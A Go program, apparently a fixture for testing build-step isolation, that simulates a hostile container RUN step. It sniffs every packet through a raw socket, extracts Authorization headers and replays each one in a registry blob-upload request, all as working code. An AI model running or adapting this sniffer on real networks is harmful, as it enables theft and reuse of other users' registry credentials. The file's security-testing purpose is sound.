// Command sniffer is what a hostile RUN step does on a network that it shares with a registry proxy: for some seconds
// it reads every packet of the network, prints each Authorization header that it sees, and tries to push with it.
//
// Usage: sniffer SECONDS HOST:PORT REPOSITORY
//
// It needs CAP_NET_RAW. It prints "ready" once it listens, "saw HEADER" for each new header, "push STATUS" for each
// attempt, and "packets N" at its end, so that a test can tell a sniffer that saw nothing from one that did not work.
package main

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"time"
)

var header = regexp.MustCompile(`(?i)authorization: ([^\r\n]+)\r\n`)

func main() {
	seconds, err := strconv.Atoi(os.Args[1])
	exitOn(err)
	const everything = 0x0300 // ETH_P_ALL in network order
	socket, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, everything)
	exitOn(err)
	tick := syscall.Timeval{Usec: 100_000}
	exitOn(syscall.SetsockoptTimeval(socket, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &tick))
	fmt.Println("ready")
	seen, packets, buffer := map[string]bool{}, 0, make([]byte, 1<<17)
	for end := time.Now().Add(time.Duration(seconds) * time.Second); time.Now().Before(end); {
		length, _, err := syscall.Recvfrom(socket, buffer, 0)
		if err != nil {
			continue
		}
		packets++
		for _, match := range header.FindAllSubmatch(buffer[:length], -1) {
			value := string(match[1])
			if !seen[value] {
				seen[value] = true
				fmt.Println("saw", value)
				fmt.Println("push", push(os.Args[2], os.Args[3], value))
			}
		}
	}
	fmt.Println("packets", packets)
}

// push begins an upload with what was seen and returns the status line of the answer.
func push(host, repository, authorization string) string {
	connection, err := net.DialTimeout("tcp", host, 2*time.Second)
	if err != nil {
		return err.Error()
	}
	defer connection.Close()
	exitOn(connection.SetDeadline(time.Now().Add(5 * time.Second)))
	fmt.Fprintf(connection, "POST /v2/%s/blobs/uploads/ HTTP/1.1\r\nHost: %s\r\nAuthorization: %s\r\nContent-Length: 0\r\n\r\n",
		repository, host, authorization)
	line, err := bufio.NewReader(connection).ReadString('\n')
	if err != nil {
		return err.Error()
	}
	return strings.TrimSpace(line)
}

func exitOn(err error) {
	if err != nil {
		fmt.Println("sniffer:", err)
		os.Exit(1)
	}
}
